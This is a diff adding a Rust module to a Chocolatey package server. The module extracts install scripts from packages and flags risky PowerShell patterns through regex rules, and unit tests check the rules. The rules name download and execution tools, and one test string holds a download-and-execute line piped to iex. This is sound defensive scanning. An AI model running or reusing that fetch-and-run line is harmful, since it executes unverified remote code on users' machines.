@@ -0,0 +1,154 @@
+// Copyright (C) 2016  Max Planck Institute for Human Development
+//
+// This program is free software: you can redistribute it and/or modify
+// it under the terms of the GNU Affero General Public License as published
+// by the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// This program is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU Affero General Public License for more details.
+//
+// You should have received a copy of the GNU Affero General Public License
+// along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+
+use regex::Regex;
+use zip::ZipArchive;
+
+use std::io::{Read, Seek};
+
+lazy_static! {
+    static ref INVOKE_EXPRESSION: Regex = Regex::new(r"(?i)\b(invoke-expression|iex)\b").unwrap();
+    static ref DISABLED_CHECKSUMS: Regex = Regex::new(r"(?i)(ignore-?checksums?|allow-?empty-?checksums?)").unwrap();
+    static ref RAW_DOWNLOAD: Regex = Regex::new(r"(?i)\b(downloadstring|downloadfile|downloaddata|invoke-webrequest|invoke-restmethod|start-bitstransfer|iwr|irm)\b").unwrap();
+    static ref ENCODED_COMMAND: Regex = Regex::new(r"(?i)(-encodedcommand\b|frombase64string)").unwrap();
+    static ref REMOTE_URL: Regex = Regex::new(r"(?i)\b(https?|ftp)://").unwrap();
+    static ref CHECKSUM: Regex = Regex::new(r"(?i)checksum").unwrap();
+}
+
+/// Scripts chocolatey runs on install, uninstall and upgrade of a package
+pub const SCRIPT_NAMES: &'static [&'static str] = &["chocolateyInstall.ps1", "chocolateyUninstall.ps1", "chocolateyBeforeModify.ps1"];
+
+/// Longer scripts are stored and inspected truncated
+const MAX_SCRIPT_SIZE: u64 = 256 * 1024;
+const MAX_EXCERPT_LENGTH: usize = 200;
+
+/// Risky line of an install script
+#[derive(Debug, Clone, PartialEq)]
+pub struct Finding
+{
+    pub line: usize,
+    pub rule: &'static str,
+    pub message: &'static str,
+    pub excerpt: String,
+}
+
+/// Returns name and content of the chocolatey scripts inside the package.
+/// Chocolatey finds them in any directory (usually `tools/`) regardless of case, the first match wins.
+pub fn extract<R: Read + Seek>(zip: &mut ZipArchive<R>) -> Vec<(String, String)>
+{
+    let mut scripts = Vec::new();
+    for i in 0..zip.len() {
+        let file = match zip.by_index(i) {
+            Ok(file) => file,
+            Err(_) => continue,
+        };
+        let file_name = String::from(file.name().rsplit('/').next().unwrap_or(""));
+        let name = match SCRIPT_NAMES.iter().find(|name| name.to_lowercase() == file_name.to_lowercase()) {
+            Some(name) => *name,
+            None => continue,
+        };
+        if scripts.iter().any(|&(ref found, _): &(String, String)| found == name) {
+            continue;
+        }
+
+        let mut content = Vec::new();
+        if let Err(err) = file.take(MAX_SCRIPT_SIZE).read_to_end(&mut content) {
+            warn!(target: "hazel::scripts", "Failed to read {}: {}", name, err);
+            continue;
+        }
+        let content = String::from_utf8_lossy(&content);
+        scripts.push((String::from(name), String::from(content.trim_left_matches('\u{feff}'))));
+    }
+    scripts
+}
+
+fn finding(line: usize, rule: &'static str, message: &'static str, text: &str) -> Finding
+{
+    Finding {
+        line: line,
+        rule: rule,
+        message: message,
+        excerpt: text.trim().chars().take(MAX_EXCERPT_LENGTH).collect(),
+    }
+}
+
+/// Flags patterns reviewers should look at, comments are ignored
+pub fn inspect(content: &str) -> Vec<Finding>
+{
+    let mut findings = Vec::new();
+    let mut in_block_comment = false;
+    let mut lines = Vec::new();
+
+    for (index, line) in content.lines().enumerate() {
+        let trimmed = line.trim();
+        if in_block_comment {
+            if trimmed.contains("#>") {
+                in_block_comment = false;
+            }
+            continue;
+        }
+        if trimmed.starts_with("<#") {
+            in_block_comment = !trimmed.contains("#>");
+            continue;
+        }
+        if trimmed.starts_with('#') {
+            continue;
+        }
+        lines.push((index + 1, line));
+    }
+
+    //scripts without any checksum download whatever the remote server currently delivers
+    let checksums = lines.iter().any(|&(_, line)| CHECKSUM.is_match(line) && !DISABLED_CHECKSUMS.is_match(line));
+
+    for &(number, line) in lines.iter() {
+        if INVOKE_EXPRESSION.is_match(line) {
+            findings.push(finding(number, "invoke-expression", "Executes a dynamically built command", line));
+        }
+        if DISABLED_CHECKSUMS.is_match(line) {
+            findings.push(finding(number, "disabled-checksums", "Disables checksum verification", line));
+        }
+        if RAW_DOWNLOAD.is_match(line) {
+            findings.push(finding(number, "raw-download", "Downloads without the checksum verification of the chocolatey helpers", line));
+        }
+        if ENCODED_COMMAND.is_match(line) {
+            findings.push(finding(number, "encoded-command", "Runs or decodes base64 encoded content", line));
+        }
+        if !checksums && REMOTE_URL.is_match(line) {
+            findings.push(finding(number, "remote-url", "Fetches a remote URL, but the script specifies no checksum", line));
+        }
+    }
+    findings
+}
+
+#[test]
+fn inspect_findings() {
+    let script = "$url = 'https://example.com/setup.exe'\n\
+                  # iex is fine inside of a comment\n\
+                  <#\n\
+                  Invoke-Expression\n\
+                  #>\n\
+                  Install-ChocolateyPackage -PackageName 'test' -Url $url --ignore-checksums\n\
+                  (New-Object Net.WebClient).DownloadString('https://example.com/x.ps1') | iex\n";
+    let rules: Vec<(usize, &str)> = inspect(script).into_iter().map(|finding| (finding.line, finding.rule)).collect();
+    assert_eq!(rules, vec![(1, "remote-url"), (6, "disabled-checksums"),
+                           (7, "invoke-expression"), (7, "raw-download"), (7, "remote-url")]);
+}
+
+#[test]
+fn inspect_checksummed() {
+    let script = "\u{feff}$packageArgs = @{\n  url = 'https://example.com/setup.exe'\n  checksum = 'abc'\n  checksumType = 'sha256'\n}\nInstall-ChocolateyPackage @packageArgs\n";
+    assert!(inspect(script).is_empty());
+}